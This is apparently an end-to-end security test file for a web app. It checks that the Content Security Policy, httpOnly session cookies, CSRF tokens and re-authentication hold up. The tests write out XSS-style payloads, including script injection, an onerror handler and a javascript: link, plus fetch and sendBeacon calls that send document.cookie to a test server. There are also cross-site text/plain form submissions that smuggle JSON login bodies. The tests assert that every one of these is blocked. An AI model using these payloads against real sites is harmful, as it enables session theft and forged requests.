// What a script could do that got into a page and does not belong there: run nothing of its own, call nobody, not take the
// session along, and change nothing that has to be proved again. And who is let in: the maps service, only with a key.
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { beforeAll, describe, expect, test } from "vitest";
import { atEnd } from "#pwa/e2e/ends";
import { kept } from "#pwa/e2e/kept";
import { openPhone, type Phone } from "#pwa/e2e/open-phone";
import { secondDevice } from "#pwa/e2e/second-device";
import { signIn } from "#pwa/e2e/sign-in";
import { type Sahn, startSahn } from "#pwa/e2e/start-sahn";
import { addressWords } from "#pwa/i18n/form";
import { profileWords } from "#pwa/i18n/profile";
import { registerWords } from "#pwa/i18n/register";
import { soak } from "#pwa/testing/soak";

type Guarded = { ran: string[]; refused: string[] };

const email = "mariam@harbourline.example";
let sahn: Sahn;
let phone: Phone;

async function open(story: string) {
  phone = await openPhone(`guarded/${story}`, { width: 1280, height: 800 });
}

beforeAll(async () => {
  sahn = await startSahn("guarded");
});

/** A server of somebody else, on another site than the app's: it hears whatever reaches it, and says one thing. */
async function anotherSite(says: string) {
  const received: string[] = [];
  const server = createServer((request, answer) => {
    received.push(request.url ?? "");
    answer.writeHead(200, { "Content-Type": request.url === "/" ? "text/html" : "text/javascript" }).end(says);
  }).listen(0, "127.0.0.1");
  await once(server, "listening");
  atEnd(async () => void server.close());
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, received };
}

test("the session cannot be read, and no foreign code runs or reaches anybody", async () => {
  await open("thief");
  await signIn(sahn, phone, email);
  await phone.page.goto(`${sahn.url}/dashboard/profile`);
  await phone.page.getByRole("heading", { name: profileWords.title, exact: true }).waitFor();
  const { page, context } = phone;

  const session = (await context.cookies()).find(({ httpOnly }) => httpOnly);
  const token = (await context.cookies()).find(({ name }) => name === "XSRF-TOKEN");
  expect(session?.value).toMatch(/^[\w-]{43}$/);
  expect(await kept(page, [token?.value ?? "?"])).toEqual([`cookies: ${token?.value}`]); // what can be read is found
  expect(await kept(page, [session?.value ?? "", `${session?.name}=`])).toEqual([]);
  expect(page.url() + (await page.content())).not.toContain(session?.value);

  const { url: elsewhere, received } = await anotherSite("ran.push('elsewhere')");
  expect((await fetch(`${elsewhere}/hears`)).ok).toBe(true);

  await page.evaluate((elsewhere) => {
    const world = window as unknown as Guarded;
    world.ran = [];
    world.refused = [];
    // One word stands for three ways to connect: each is waited for.
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective: word, blockedURI }) =>
      world.refused.push(word === "connect-src" ? `${word} ${new URL(blockedURI).pathname}` : word),
    );
    const put = (tag: string, given: Record<string, string>, text = "") => {
      const made = document.createElement(tag);
      for (const [name, value] of Object.entries(given)) made.setAttribute(name, value);
      made.textContent = text;
      return document.body.appendChild(made);
    };
    put("script", {}, "ran.push('inline')");
    put("script", { src: `${elsewhere}/script.js` });
    put("script", { src: "data:text/javascript,ran.push('data')" });
    put("img", { src: "/nothing.png", onerror: "ran.push('handler')" });
    put("img", { src: `${elsewhere}/leak.png` });
    put("iframe", { src: `${elsewhere}/frame` });
    put("object", { data: `${elsewhere}/object` });
    put("link", { rel: "stylesheet", href: `${elsewhere}/leak.css` });
    put("base", { href: elsewhere });
    put("a", { href: "javascript:ran.push('link')" }).click();
    setTimeout("ran.push('text')" as unknown as () => void, 0);
    fetch(`${elsewhere}/fetch`, { method: "POST", mode: "no-cors", body: document.cookie }).catch(() => undefined);
    navigator.sendBeacon(`${elsewhere}/beacon`, document.cookie);
    new WebSocket(`${elsewhere.replace("http", "ws")}/socket`);
    (put("form", { action: `${elsewhere}/form`, method: "post" }) as HTMLFormElement).submit();
  }, elsewhere);
  const guarded = () =>
    page.evaluate(() => {
      const { ran, refused } = window as unknown as Guarded;
      return { ran, refused: [...new Set(refused)].sort() };
    });
  const code = ["script-src", "script-src-attr", "script-src-elem"];
  const calls = ["fetch", "beacon", "socket"].map((way) => `connect-src /${way}`);
  const ways = [...calls, "base-uri", "form-action", "frame-src", "img-src", "object-src", "style-src-elem"];
  await expect.poll(guarded, { timeout: 15_000 }).toEqual({ ran: [], refused: [...code, ...ways].sort() });
  expect(received).toEqual(["/hears"]);
  expect(page.url()).toBe(`${sahn.url}/dashboard/profile`);

  // Every other story fails when the browser says one such word: here it must have.
  await expect(phone.end()).rejects.toThrow(/Content Security Policy/);
});

test("the token is there when a visitor begins to type, since the app asks for it as it starts", async () => {
  await open("token");
  const asked = phone.page.waitForResponse((answer) => new URL(answer.url()).pathname === "/sanctum/csrf-cookie");
  await phone.page.goto(`${sahn.url}/login`);
  expect((await asked).status()).toBe(204);
  await expect.poll(async () => (await phone.context.cookies()).map((one) => one.name)).toContain("XSRF-TOKEN");
});

test("another site signs nobody in or out and changes nothing, whoever is signed in here", async () => {
  await open("another-site");
  phone.expect(419, 404); // an answer that is no page has no icon
  const { page, context } = phone;
  const { url: elsewhere } = await anotherSite("<!doctype html><title>Win a lunch</title>");
  // A form can send JSON: what stands between name and value falls into a field that takes anything.
  const [name, value] = [`{"email":"omar@harbourline.example","company_id":"`, `","password":"lunch-is-served"}`];
  const session = async () => (await context.cookies(sahn.url)).find(({ httpOnly }) => httpOnly)?.value;
  const send = async (path: string, name: string, value: string) => {
    await page.goto(`${elsewhere}/`);
    const answered = page.waitForResponse((answer) => answer.url() === `${sahn.url}${path}`);
    await page.evaluate(
      ([action, name, value]) => {
        const form = Object.assign(document.createElement("form"), { method: "POST", enctype: "text/plain", action });
        form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
        document.body.append(form);
        form.submit();
      },
      [`${sahn.url}${path}`, name, value] as const,
    );
    expect((await answered).status()).toBe(419);
    await page.waitForURL(`${sahn.url}${path}`);
    await page.goto(`${elsewhere}/`);
    await page.evaluate(
      async ([url, body]) => {
        await fetch(url, { method: "POST", mode: "no-cors", credentials: "include", body });
        await fetch(url, { method: "POST", mode: "no-cors", body });
      },
      [`${sahn.url}${path}`, `${name}=${value}`] as const,
    );
  };
  const tries: [string, string, string][] = [
    ["/api/profile-login", name, value],
    ["/api/login-otp", `{"email":"omar@harbourline.example`, `"}`],
    ["/api/profile-logout", "", ""],
    ["/api/update-profile", `{"name":"`, `"}`],
  ];
  for (const one of tries) await send(...one);
  expect(await session()).toBeUndefined();

  await signIn(sahn, phone, email);
  const mine = await session();
  const profile = () => page.evaluate(async () => (await fetch("/api/get-profile")).text());
  const before = await profile();
  expect(before).toContain(email);
  for (const one of tries) await send(...one);
  expect(await session()).toBe(mine);
  await page.goto(`${sahn.url}/healthz`);
  expect(await profile()).toBe(before);

  // The same words from our own page, with the token, are understood: it was where they came from.
  const understood = await page.evaluate(async (body) => {
    const token = decodeURIComponent(/XSRF-TOKEN=([^;]*)/.exec(document.cookie)?.[1] ?? "");
    return (await fetch("/api/profile-login", { method: "POST", headers: { "X-XSRF-TOKEN": token }, body })).status;
  }, `${name}=${value}`);
  expect(understood).toBe(201);
  expect(await profile()).toContain("omar@harbourline.example");
});

test.runIf(soak)("with the session and its token in hand nothing changes that has to be proved again", async () => {
  const { ask } = await secondDevice(sahn, email);
  const mine = { password: "a password of the thief" };
  for (const [path, body] of [
    ["change-password", mine],
    ["change-password", { ...mine, current_password: "" }],
    ["change-password", { ...mine, current_password: "perhaps this one" }],
    ["update-profile", { email: "thief@evil.example" }],
    ["update-profile", mine],
    ["delete-account", {}],
    ["delete-account", { password: "perhaps this one" }],
    ["client/forgot-password/reset", { ...mine, email, otp: "000000" }],
  ] as const)
    expect([path, body, (await ask("POST", `/api/${path}`, body)).status]).toEqual([path, body, 422]);
  expect((await ask("POST", "/api/update-profile", { name: "Mariam A" })).status).toBe(200);
});

/** The registration of a cash client, with a field for their street. */
async function street() {
  const asked = new Set<string>();
  phone.context.on("request", (request) => asked.add(new URL(request.url()).origin));
  await phone.page.goto(`${sahn.url}/register`);
  await phone.page.getByRole("radio", { name: registerWords.myself }).check();
  const field = phone.page.getByLabel(addressWords.line, { exact: true });
  await field.waitFor();
  // Whether there is a key is known only then.
  await phone.page.waitForFunction(() => localStorage.getItem("sahn.config"));
  return { field, asked };
}

test("without a key for maps an address is a plain line, and nobody else is asked anything", async () => {
  await open("no-maps");
  const { field, asked } = await street();
  expect(await field.getAttribute("role")).toBe(null);
  await field.pressSequentially("Marasi Drive");
  await phone.page.getByLabel(addressWords.label, { exact: true }).fill("Home");
  expect([...asked]).toEqual([sahn.url]);
});

describe.runIf(soak)("with a key for maps", () => {
  beforeAll(async () => {
    await sahn.end();
    sahn = await startSahn("guarded-maps", { MAPS_KEY: "key-of-this-test" });
  });

  test("the places library is let in and answers, and nothing else is", async () => {
    await open("maps");
    const loads: URL[] = [];
    await phone.context.route("https://maps.googleapis.com/**", async (route) => {
      const url = new URL(route.request().url());
      loads.push(url);
      await route.fulfill({ contentType: "text/javascript", body: library(url.searchParams.get("callback") ?? "") });
    });
    await phone.context.route("https://places.googleapis.com/**", (route) =>
      route.fulfill({ headers: { "Access-Control-Allow-Origin": "*" }, json: ["Marasi Drive, Business Bay"] }),
    );
    const { field, asked } = await street();
    await field.pressSequentially("Marasi");
    await phone.page.getByRole("option", { name: "Marasi Drive, Business Bay", exact: true }).click();
    await expect.poll(() => field.inputValue()).toBe("Marasi Drive, Business Bay");
    expect(loads.map((url) => url.searchParams.get("key"))).toEqual(["key-of-this-test"]);
    const others = ["https://maps.googleapis.com", "https://places.googleapis.com"];
    expect([...asked].sort()).toEqual([sahn.url, ...others].sort());
  });
});

/** What stands in for the service's script: it asks the places service, as the real one does. */
const library = (callback: string) => `
  window.google = { maps: { importLibrary: async () => ({
    AutocompleteSessionToken: class {},
    AutocompleteSuggestion: {
      fetchAutocompleteSuggestions: async () => {
        const found = await (await fetch("https://places.googleapis.com/v1/places:autocomplete", { method: "POST", body: "{}" })).json();
        return { suggestions: found.map((text, i) => ({ placePrediction: {
          placeId: String(i), text, toPlace: () => ({ fetchFields: async () => {}, formattedAddress: text }),
        } })) };
      },
    },
  }) } };
  window["${callback}"]();
`;
